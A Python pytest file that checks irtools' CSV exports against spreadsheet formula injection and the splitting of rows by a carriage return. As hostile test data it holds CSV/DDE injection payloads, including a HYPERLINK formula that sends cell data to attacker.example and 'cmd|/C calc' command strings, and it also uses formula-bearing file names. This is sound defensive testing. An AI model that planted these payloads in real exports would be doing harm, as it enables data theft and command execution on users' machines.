"""Every CSV irtools writes reads back as the same rows with pandas and with Python's csv module.

The red team named a layer `conv1\\r=HYPERLINK(...)`: the bare CR was written unquoted, so spreadsheets
and pandas started a new row inside the field (154 rows read instead of 138), and in that row a live
formula; `summarize` escaped nothing (a file named `=HYPERLINK(1)_b1_...json`).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from dashboards.app import create_app
from irtools.analysis import TABLES, analyze, read_table
from irtools.csv_out import FORMULA_STARTS, csv_text, spreadsheet_safe
from tests.conftest import FIXTURES, RunCli
from tests.dashboard.dash_client import DashClient

ROOT = Path(__file__).resolve().parents[2]
OVERLAP = ROOT / "sample_ir" / "invalid" / "GIR302-buffer-overlap.json"
GEMINI = "int8_resnet50.sim_quantized_b1_c1_bw16"
NAMES = [
    'conv1\r=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "conv2\n@SUM(1+1)*cmd|' /C calc'!A0",
    "conv3\r\n+1+cmd|' /C calc'!A0",
    '=cmd,"quoted"\r-2+3',
    "\r\r=1",
]
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _rename_layers(doc: dict[str, Any], names: list[str]) -> None:
    workloads = [w for key in sorted(k for k in doc if k.isdigit()) for w in doc[key]]
    for i, workload in enumerate(workloads):
        workload["layer_name"] = names[i % len(names)]
    workloads[0]["layer_type"] = "=1+1\r@2"


def _rows_both_ways(path: Path) -> list[list[str]]:
    """The file's rows as Python's csv module reads them, asserted equal to what pandas reads."""
    with open(path, encoding="utf-8", newline="") as handle:  # newline="": a CR in a field stays a CR
        by_csv = list(csv.reader(handle))
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    by_pandas = [list(frame.columns), *frame.to_numpy().tolist()]
    assert by_pandas == by_csv, path.name
    return by_csv


def _live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells (or lines inside cells) a spreadsheet would run: a formula character first, not a number."""
    lines = (part for row in rows for cell in row for part in re.split(r"\r\n|\r|\n", cell) if part)
    return [p for p in lines if p.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(p)]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    doc = json.loads(OVERLAP.read_text())
    _rename_layers(doc, NAMES)
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(doc))
    return path


def test_a_carriage_return_is_quoted_and_read_back_as_one_field() -> None:
    frame = pd.DataFrame({"name": ["a\rb", "c\nd", "e\r\nf", "plain", None], "n": [1, 2, 3, 4, 5]})
    text = csv_text(frame)
    assert text.splitlines(keepends=True)[0] == "name,n\n"
    assert '"a\rb",1\n' in text and '"c\nd",2\n' in text and '"e\r\nf",3\n' in text and "plain,4\n" in text
    assert list(csv.reader(io.StringIO(text, newline="")))[1:4] == [
        ["a\rb", "1"],
        ["c\nd", "2"],
        ["e\r\nf", "3"],
    ]
    back = pd.read_csv(io.StringIO(text, newline=""), keep_default_na=False, na_values=[""])
    assert back["name"].tolist()[:4] == ["a\rb", "c\nd", "e\r\nf", "plain"] and back["n"].tolist() == [
        1,
        2,
        3,
        4,
        5,
    ]
    # Categorical text (the tables' layer names may be) is quoted the same way.
    assert csv_text(frame.astype({"name": "category"})) == text


def test_excel_safe_escapes_a_formula_after_a_line_break() -> None:
    frame = pd.DataFrame({"name": ["conv1\r=HYPERLINK(1)", "a\n-1", "ok\nfine", "-5"]})
    assert spreadsheet_safe(frame)["name"].tolist() == ["conv1\r'=HYPERLINK(1)", "a\n'-1", "ok\nfine", "-5"]
    assert spreadsheet_safe(frame.astype("category"))["name"].tolist()[0] == "conv1\r'=HYPERLINK(1)"


@pytest.mark.parametrize("excel_safe", [False, True])
def test_analyze_tables_read_back_row_for_row(
    run_cli: RunCli, hostile: Path, tmp_path: Path, excel_safe: bool
) -> None:
    out = tmp_path / "tables"
    # --noc-links: every table is written, the routed NoC links included (they are opt-in since issue 28).
    safe = ["--excel-safe"] if excel_safe else []
    code, _, err = run_cli("analyze", hostile, "--out", out, "--noc-links", *safe)
    assert code == 0, err
    analysis = analyze(hostile)
    live = []
    for name in TABLES:
        rows = _rows_both_ways(out / f"{name}.csv")
        assert len(rows) - 1 == len(analysis.table(name)), name
        live += _live_formulas(rows)
        if not excel_safe and name == "layers":  # the names come back exactly as the file wrote them
            assert set(read_table(out / "layers.csv")["layer_name"]) == set(NAMES)
    assert (live == []) if excel_safe else (live != [])


def test_dashboard_downloads_read_back_row_for_row(hostile: Path) -> None:
    client = DashClient(create_app(hostile.parent).server.test_client())
    analysis = analyze(hostile)
    for name in TABLES:
        state = {"table-name.value": name, "shown.data": hostile.name}
        sent = client.call("download.data", {"download-button.n_clicks": 1}, state)["download"]["data"]
        path = hostile.parent / f"{name}.csv"
        path.write_text(sent["content"], encoding="utf-8", newline="")
        rows = _rows_both_ways(path)
        assert len(rows) - 1 == len(analysis.table(name)), name
        assert _live_formulas(rows) == [], name


@pytest.mark.parametrize("excel_safe", [False, True])
def test_summarize_reads_back_and_escapes_file_names(
    run_cli: RunCli, hostile: Path, tmp_path: Path, excel_safe: bool
) -> None:
    sweep = tmp_path / "sweep"
    sweep.mkdir()
    shutil.copy(hostile, sweep / "=HYPERLINK(1)_b1_c1_bw16_stschedule.json")
    shutil.copy(hostile, sweep / "conv\r=2+3_b2_c1_bw16_stschedule.json")
    out = tmp_path / "sweep.csv"
    args = [
        "summarize",
        sweep,
        "-o",
        out,
        "--no-cache",
        "--jobs",
        "1",
        *(["--excel-safe"] if excel_safe else []),
    ]
    code, _, err = run_cli(*args)
    assert code in (0, 1), err
    for path in (out, tmp_path / "sweep.findings.csv"):
        rows = _rows_both_ways(path)
        assert _live_formulas(rows) == [] if excel_safe else _live_formulas(rows) != []
    rows = _rows_both_ways(out)
    assert len(rows) == 3
    models = [row[rows[0].index("model")] for row in rows[1:]]
    if excel_safe:
        assert "'=HYPERLINK(1)" in models and "conv\r'=2+3" in models
    else:
        assert "=HYPERLINK(1)" in models and "conv\r=2+3" in models


def test_summarize_refuses_excel_safe_parquet(run_cli: RunCli, hostile: Path, tmp_path: Path) -> None:
    code, _, err = run_cli("summarize", hostile, "-o", tmp_path / "s.parquet", "--excel-safe", "--no-cache")
    assert code == 2 and "--excel-safe applies to CSV output only" in err


def test_trace_tables_read_back_row_for_row(run_cli: RunCli, tmp_path: Path) -> None:
    ir, trace = FIXTURES / "gemini" / f"{GEMINI}_stschedule.json", FIXTURES / "zebu" / f"{GEMINI}_sim.txt"
    if not ir.is_file():
        pytest.skip("../shared/fixtures not present")
    doc = json.loads(ir.read_text())
    _rename_layers(doc, NAMES)
    hostile = tmp_path / f"{GEMINI}_stschedule.json"
    hostile.write_text(json.dumps(doc))
    out = tmp_path / "tables"
    code, _, err = run_cli("analyze", hostile, "--trace", trace, "--out", out, "--excel-safe")
    assert code == 0, err
    written = sorted(out.glob("*.csv"))
    assert any(p.name.startswith("measured_") for p in written)
    for path in written:
        rows = _rows_both_ways(path)
        assert _live_formulas(rows) == [], path.name
